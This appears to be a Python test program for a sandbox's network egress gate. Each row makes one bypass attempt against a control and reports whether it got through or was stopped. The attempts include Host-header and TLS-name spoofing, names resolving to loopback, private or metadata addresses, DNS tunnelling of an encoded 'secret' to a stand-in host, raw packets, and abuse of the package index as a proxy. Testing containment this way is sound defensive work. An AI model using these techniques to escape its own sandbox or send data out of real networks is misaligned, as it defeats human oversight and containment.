"""Attempts on the network gate, and the program that makes them: standard library only, because it runs in jails.

`python gate_program.py FACTS NUMBER` makes one attempt and says how it went. Outside, names lead where FACTS says and
the package index is the operator's own, so that each attempt gets through, or it would prove nothing.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import socket
import ssl
import struct
import sys
import urllib.parse
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass, field

REACHED = b"REACHED"
HOST, OTHER = "host.example", "other.example"


@dataclass(frozen=True)
class Facts:
    """Where things are: `names` for those that only FACTS can look up, "" for what the jail itself is told."""

    names: dict[str, str]
    address: str
    port: int
    beside: int
    datagrams: int
    resolver: tuple[str, int]
    index: str
    proxy: str


@dataclass(frozen=True)
class GateRow:
    """As the rows of the other table; `needs` is what this machine must have for the attempt to work outside."""

    name: str
    attempt: Callable[[Facts], object]
    control: Callable[[Facts], object]
    expect: dict[str, str] = field(default_factory=lambda: {"L3": "held"})
    needs: str = ""

    @property
    def title(self) -> str:
        return f"gate: {self.name}"


def _says(at: Facts, host: str, port: int, *words: bytes) -> bool:
    """Whether each of some words, said one after the other on one connection, is answered."""
    with socket.create_connection((at.names.get(host, host), port), 5) as there:
        for word in words:
            there.sendall(word)
            if REACHED not in there.recv(1 << 12):
                return False
    return True


def _get(host: str) -> bytes:
    return f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()


def _hello(name: str | None) -> bytes:
    context = ssl.create_default_context()
    context.check_hostname = False
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    return outgoing.read()


def _approved(at: Facts) -> object:
    return _says(at, HOST, at.port, _get(f"{HOST}:{at.port}"))


def _approved_by_tls(at: Facts) -> object:
    return _says(at, HOST, at.port, _hello(HOST))


def _asked(at: Facts, name: str) -> int:
    """How many answers the resolver gives for a name."""
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(5)
        asking.sendto(struct.pack("!6H", 7, 256, 1, 0, 0, 0) + labels + b"\0\0\1\0\1", tuple(at.resolver))
        count: int = struct.unpack_from("!H", asking.recv(512), 6)[0]
        return count


def _datagram(at: Facts) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.settimeout(5)
        there.connect((at.address, at.datagrams))
        there.send(b"x")
        return there.recv(64) == REACHED


def _own_datagram(_: Facts) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as here, socket.socket(type=socket.SOCK_DGRAM) as there:
        here.bind(("127.0.0.1", 0))
        there.sendto(b"x", here.getsockname())
        return here.recv(1)


def _ping(_: Facts) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        raw.settimeout(5)
        raw.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("127.0.0.1", 0))
        return raw.recv(64)


def _index(at: Facts) -> str:
    return at.index or os.environ["PIP_INDEX_URL"].removesuffix("/simple/")


def _fetched(url: str) -> bytes:
    with urllib.request.urlopen(url, timeout=10) as answer:
        content: bytes = answer.read()
        return content


def _file_of(at: Facts, project: str) -> bytes:
    """The first file that a project's page names."""
    page = f"{_index(at)}/simple/{project}/"
    (place,) = re.findall(r'href="([^"#]+)', _fetched(page).decode())[:1]
    return _fetched(urllib.parse.urljoin(page, place))


def _good(at: Facts) -> object:
    return _file_of(at, "good") == b"good"


def _by_proxy(at: Facts, line: str) -> object:
    proxy = at.proxy or _index(at).removeprefix("http://") + ":80"
    host, _, port = proxy.partition(":")
    with socket.create_connection((host, int(port)), 5) as there:
        there.sendall(f"{line} HTTP/1.1\r\nHost: {OTHER}\r\n\r\n".encode())
        return REACHED in there.recv(1 << 12)


ROWS = [
    GateRow("another port of the approved host", lambda at: _says(at, HOST, at.beside, _get(HOST)), _approved),
    GateRow("its address in place of its name", lambda at: _says(at, at.address, at.port, _get(HOST)), _approved),
    GateRow("another name on its address, by HTTP", lambda at: _says(at, HOST, at.port, _get(OTHER)), _approved),
    GateRow("another name on its address, by TLS",
            lambda at: _says(at, HOST, at.port, _hello(OTHER)), _approved_by_tls),
    GateRow("TLS that names nobody", lambda at: _says(at, HOST, at.port, _hello(None)), _approved_by_tls),
    GateRow("another name in the second request",
            lambda at: _says(at, HOST, at.port, _get(f"{HOST}:{at.port}"), _get(OTHER)), _approved),
    GateRow("a protocol that names nobody", lambda at: _says(at, HOST, at.port, b"SSH-2.0-x\r\n"), _approved),
    GateRow("a name that leads to the loopback",
            lambda at: _says(at, "loopback.example", at.port, _get(f"loopback.example:{at.port}")), _approved),
    GateRow("a name that leads to a private address",
            lambda at: _says(at, "private.example", at.port, _get(f"private.example:{at.port}")), _approved),
    GateRow("a name that leads to a metadata service",
            lambda at: _says(at, "metadata.example", at.port, _get(f"metadata.example:{at.port}")), _approved),
    GateRow("words carried out as names", lambda at: _asked(at, "c2VjcmV0.tunnel.example"),
            lambda at: _asked(at, HOST)),
    GateRow("a datagram", _datagram, _own_datagram),
    GateRow("a packet made by hand", _ping, _own_datagram, needs="root"),
    GateRow("the index as a proxy, by CONNECT", lambda at: _by_proxy(at, f"CONNECT {OTHER}:443"), _good),
    GateRow("the index as a proxy, by a whole address", lambda at: _by_proxy(at, f"GET http://{OTHER}/"), _good),
    GateRow("a path that the index did not name", lambda at: _fetched(f"{_index(at)}/kept/secret") == REACHED, _good),
    GateRow("a file that redirects to another host", lambda at: _file_of(at, "elsewhere") == REACHED, _good),
    GateRow("a file that is not the one named", lambda at: _file_of(at, "poisoned") == REACHED, _good),
]  # fmt: skip


def _say(word: str, done: Callable[[Facts], object], at: Facts, otherwise: str) -> None:
    try:
        said = (word, "") if done(at) else (otherwise, "")
    except (OSError, ValueError, LookupError) as error:
        said = (otherwise, repr(error))
    sys.stdout.write(" ".join(said) + "\n")


def main(facts: str, number: int) -> None:
    with open(facts) as file:
        at = Facts(**json.load(file))
    sys.stdout.write("STARTED\n")
    _say("CONTROL", ROWS[number].control, at, "LAME")
    _say("THROUGH", ROWS[number].attempt, at, "STOPPED")


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
